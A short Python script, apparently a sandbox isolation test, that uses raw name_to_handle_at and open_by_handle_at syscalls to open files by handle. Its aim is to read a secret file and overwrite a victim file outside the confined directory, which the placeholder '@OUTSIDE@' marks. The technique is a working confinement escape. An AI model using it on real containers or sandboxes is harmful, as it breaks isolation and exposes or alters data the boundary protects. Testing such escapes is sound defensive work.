"""Opens secret.txt and victim.txt by file handle (name_to_handle_at, open_by_handle_at: no path is walked); effect: the secret is printed, victim.txt changes."""

import ctypes
import os


def attempt(way):
    try:
        return way()
    except Exception as e:
        return e


libc = ctypes.CDLL(None, use_errno=True)


def by_handle(path, flags):
    handle = ctypes.create_string_buffer(136)
    handle[0] = 128
    mount = ctypes.c_int()
    if libc.syscall(303, -100, path, handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno())
    base = os.open(".", os.O_RDONLY)
    fd = libc.syscall(304, base, handle, flags)
    if fd < 0:
        raise OSError(ctypes.get_errno())
    return fd


attempt(lambda: print(os.read(by_handle(b"@OUTSIDE@/secret.txt", os.O_RDONLY), 100)))
attempt(lambda: os.write(by_handle(b"@OUTSIDE@/victim.txt", os.O_WRONLY), b"out"))

print("tried")
